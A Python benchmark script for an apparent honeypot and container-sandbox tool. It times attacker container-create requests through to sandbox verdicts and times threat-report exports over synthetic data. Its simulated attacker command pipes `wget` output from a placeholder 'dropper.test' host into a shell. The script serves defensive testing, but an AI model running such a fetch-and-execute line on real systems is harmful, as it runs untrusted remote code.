"""Honeypot end to end and the threat report at scale: prints medians and ratios, asserts nothing.

    python benchmarks/honeypot_verdict_bench.py [--rounds 5] [--sessions 100000] [--scans 10000]

1. From an attacker's `containers/create` to a verdict in the store: a real `detonate
   honeypot` process, a real `detonate honeypot-worker` process (poll 0.5 s) and the real
   sandbox, over SQLite; the image (the bundled `benign-web`) in a local `docker-registry`.
   Each round deploys a new command (a new scan), timed from the create request until the
   scan is done in the store; round 0 (pull, unpack, the worker's first scan) is not counted.
   Peer, interleaved: `pipeline.scan` of the same image and command in this process, on the
   same warm cache — what the honeypot, the queue and the worker add.
2. `detonate report` over N sessions (one deployment in ten) and M finished scans (two
   findings and two IOCs each) on SQLite and on a real PostgreSQL (tests/postgres.py): the
   figures with the Markdown page, the STIX bundle and the MISP event.
"""

from __future__ import annotations

import argparse
import http.client
import json
import os
import re
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import insert

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests"))

from conftest import start_registry, stop_registry  # noqa: E402
from detonate.factory import build_sample  # noqa: E402
from detonate.intel import render  # noqa: E402
from detonate.intel.figures import gather  # noqa: E402
from detonate.intel.misp_export import event  # noqa: E402
from detonate.intel.stix_export import bundle  # noqa: E402
from detonate.model.options import AcquireOptions, SandboxOptions, ScanOptions  # noqa: E402
from detonate.pipeline import scan  # noqa: E402
from detonate.store import ScanStatus, Store  # noqa: E402
from detonate.store.honeypot_models import HoneypotDeployment, HoneypotSession  # noqa: E402
from detonate.store.models import FindingRow, Image, Ioc, Scan, ScanIoc  # noqa: E402
from postgres import start_postgres, stop_postgres  # noqa: E402

WORKER_POLL = 0.5
RUN_TIMEOUT = 30


def post(port: int, path: str, body: object = None) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    data = json.dumps(body).encode() if body is not None else None
    connection.request("POST", path, body=data, headers={"Content-Type": "application/json"})
    status = connection.getresponse().status
    connection.close()
    return status


def command(n: int) -> list[str]:
    return ["sh", "-c", f"echo round {n}; wget -qO- http://dropper.test/x.sh | sh"]


def wait_done(store: Store, count: int, deadline: float) -> str:
    """The verdict of the newest scan once `count` scans are done (polls the store every 20 ms)."""
    while time.monotonic() < deadline:
        scans = store.list_scans()
        failed = [r for r in scans if r.status is ScanStatus.FAILED]
        if failed:
            raise RuntimeError(f"scan failed: {failed[0].reason}")
        done = sorted((r for r in scans if r.status is ScanStatus.DONE), key=lambda r: r.created_at)
        if len(done) >= count:
            return done[-1].verdict or "?"
        time.sleep(0.02)
    raise TimeoutError("no verdict in time")


def create_to_verdict(rounds: int, work: Path) -> None:
    built = build_sample(REPO / "samples" / "benign-web", work / "built")
    registry = start_registry(work / "registry")
    processes: list[subprocess.Popen[str]] = []
    try:
        registry.push(built.archive_reference, "benign-web:1")
        image = f"{registry.host}/benign-web"
        cache = work / "cache"
        env = {**os.environ, "PYTHONUNBUFFERED": "1"}
        db = f"sqlite:///{work / 'honeypot.db'}"
        honeypot = subprocess.Popen(
            [sys.executable, "-m", "detonate", "honeypot", "--db", db, "--ports", "0"],
            stderr=subprocess.PIPE,
            text=True,
            env=env,
        )
        processes.append(honeypot)
        assert honeypot.stderr is not None
        line = honeypot.stderr.readline().strip()
        port = int(re.findall(r":(\d+)$", line)[0])
        worker = subprocess.Popen(
            [
                *(sys.executable, "-m", "detonate", "honeypot-worker", "--db", db),
                *("--cache-dir", str(cache), "--poll", str(WORKER_POLL)),
                *("--timeout", str(RUN_TIMEOUT), "--allow-registry", registry.host),
                "--unsafe-skip-tls-verify",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            env=env,
        )
        processes.append(worker)
        peer_options = ScanOptions(
            cache_dir=cache,
            acquire=AcquireOptions(tls_verify=False),
            sandbox=SandboxOptions(timeout_seconds=RUN_TIMEOUT),
        )
        store = Store.open(db)
        assert post(port, f"/v1.41/images/create?fromImage={image}&tag=1") == 200
        through, direct, verdicts = [], [], []
        for n in range(rounds + 1):  # round 0 warms the cache and the worker, not counted
            started = time.monotonic()
            create = {"Image": f"{image}:1", "Cmd": command(n), "User": "root"}
            assert post(port, "/v1.41/containers/create", create) == 201
            verdict = wait_done(store, n + 1, started + 300)
            took = time.monotonic() - started

            sandbox = replace(peer_options.sandbox, cmd=tuple(command(n)))
            started = time.monotonic()
            report = scan(f"docker://{image}:1", replace(peer_options, sandbox=sandbox))
            peer = time.monotonic() - started
            if n:
                through.append(took)
                direct.append(peer)
                verdicts.append(f"{verdict}/{report.verdict.value}")
            print(f"  round {n}: create→verdict {took:.2f} s, direct scan {peer:.2f} s ({verdict})")
        store.close()
        median, peer_median = statistics.median(through), statistics.median(direct)
        print(
            f"create→verdict in the store, median of {rounds}: {median:.2f} s; direct "
            f"pipeline.scan (peer): {peer_median:.2f} s; ratio {median / peer_median:.2f}; "
            f"verdicts (honeypot/direct) {sorted(set(verdicts))}"
        )
    finally:
        for process in reversed(processes):
            if process.poll() is None:
                process.terminate()
                try:
                    process.wait(timeout=60)
                except subprocess.TimeoutExpired:
                    process.kill()
                    process.wait()
        stop_registry(registry)


def fill(store: Store, sessions: int, scans: int) -> None:
    """`sessions` sessions over 30 days, a deployment in one of ten, `scans` done scans."""
    start = datetime.now(UTC) - timedelta(days=30)
    step = timedelta(days=29) / max(sessions, 1)
    verdicts = ("malicious", "suspicious", "clean", "malicious")
    rules = (
        ("stratum-login", "Stratum mining login", "communication", "T1496"),
        ("download-pipe-shell", "Download piped to a shell", "initial-execution", "T1105"),
        ("docker-api-propagation", "Docker APIs of other hosts", "propagation", "T1046"),
        ("host-filesystem-write", "Host filesystem written", "weaponization", "T1611"),
    )
    with store.engine.begin() as connection:
        connection.execute(
            insert(Image),
            [
                {"id": i + 1, "digest": f"sha256:{i:064x}", "platform": "linux/amd64",
                 "first_seen": start}
                for i in range(7)
            ],
        )  # fmt: skip
        connection.execute(
            insert(Ioc),
            [{"id": i + 1, "kind": ("domain", "ip", "pool", "wallet")[i % 4],
              "value": f"ioc-{i}.test"} for i in range(400)],
        )  # fmt: skip
        session_rows, deployment_rows = [], []
        for n in range(sessions):
            at = start + step * n
            sid = str(uuid.UUID(int=n))
            session_rows.append(
                {"id": sid, "honeypot": "bench", "source_ip": f"203.0.113.{n % 250}",
                 "country": "", "first_seen": at, "last_seen": at, "requests": 3,
                 "evidence_json": "[]"}
            )  # fmt: skip
            if n % 10 == 0:
                deployment_rows.append(
                    {"session_id": sid, "at": at, "kind": "create", "container_id": "x",
                     "image": f"alpine:{n % 7}", "config_json": "{}",
                     "escape_intent_json": '["privileged"]', "decoded_json": "[]",
                     "profile": "hp-bench", "scan_id": None}
                )  # fmt: skip
        connection.execute(insert(HoneypotSession), session_rows)
        connection.execute(insert(HoneypotDeployment), deployment_rows)
        scan_rows, finding_rows, link_rows = [], [], []
        scan_step = timedelta(days=29) / max(scans, 1)
        for n in range(scans):
            at = start + scan_step * n
            sid = str(uuid.UUID(int=10**12 + n))
            scan_rows.append(
                {"id": sid, "cache_key": f"{n:064x}", "image_id": n % 7 + 1,
                 "reference": f"docker://alpine:{n % 7}", "digest": f"sha256:{n % 7:064x}",
                 "platform": "linux/amd64", "tool_version": "bench", "ruleset_hash": "",
                 "profile": f"hp-{n}", "source": "honeypot", "status": "done",
                 "created_at": at, "started_at": at, "finished_at": at + timedelta(seconds=20),
                 "verdict": verdicts[n % 4], "score": 70, "deciding_title": rules[n % 4][1]}
            )  # fmt: skip
            for rule in (rules[n % 4], rules[(n + 1) % 4]):
                finding_rows.append(
                    {"scan_id": sid, "rule_id": rule[0], "title": rule[1], "category": rule[2],
                     "technique": rule[3], "severity": "high", "confidence": "high",
                     "runtime_only": True}
                )  # fmt: skip
            link_rows += [{"scan_id": sid, "ioc_id": n % 400 + 1},
                          {"scan_id": sid, "ioc_id": (n * 7 + 3) % 400 + 1}]  # fmt: skip
        connection.execute(insert(Scan), scan_rows)
        connection.execute(insert(FindingRow), finding_rows)
        connection.execute(
            insert(ScanIoc), [dict(t) for t in {tuple(r.items()) for r in link_rows}]
        )


def timed(function: object, *args: object) -> float:
    started = time.perf_counter()
    function(*args)  # type: ignore[operator]
    return time.perf_counter() - started


def markdown_page(store: Store, since: datetime, until: datetime) -> str:
    return render.render(gather(store, since, until), "md")


def report_times(sessions: int, scans: int, work: Path) -> None:
    server = start_postgres()
    try:
        results: dict[str, dict[str, float]] = {}
        for name, url in (
            ("SQLite", f"sqlite:///{work / 'report.db'}"),
            ("PostgreSQL", server.new_database()),
        ):
            store = Store.open(url)
            filled = timed(fill, store, sessions, scans)
            until = datetime.now(UTC)
            since = until - timedelta(days=31)
            md = [timed(markdown_page, store, since, until) for _ in range(3)]
            results[name] = {
                "md": statistics.median(md),
                "stix": timed(bundle, store, since, until),
                "misp": timed(event, store, since, until),
            }
            print(
                f"  {name}: filled in {filled:.1f} s; report md {results[name]['md']:.2f} s "
                f"(median of 3), stix {results[name]['stix']:.2f} s, "
                f"misp {results[name]['misp']:.2f} s"
            )
            store.close()
        for kind in ("md", "stix", "misp"):
            ratio = results["PostgreSQL"][kind] / results["SQLite"][kind]
            print(
                f"report {kind}, {sessions} sessions, {scans} scans: PostgreSQL/SQLite {ratio:.2f}"
            )
    finally:
        stop_postgres(server)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--sessions", type=int, default=100_000)
    parser.add_argument("--scans", type=int, default=10_000)
    parser.add_argument("--skip-verdict", action="store_true")
    parser.add_argument("--skip-report", action="store_true")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="honeypot-verdict-bench-") as tmp:
        work = Path(tmp)
        os.chmod(work, 0o755)  # the sandbox's mapped root reads the unpacked image below
        if not args.skip_verdict:
            create_to_verdict(args.rounds, work)
        if not args.skip_report:
            report_times(args.sessions, args.scans, work)


if __name__ == "__main__":
    main()
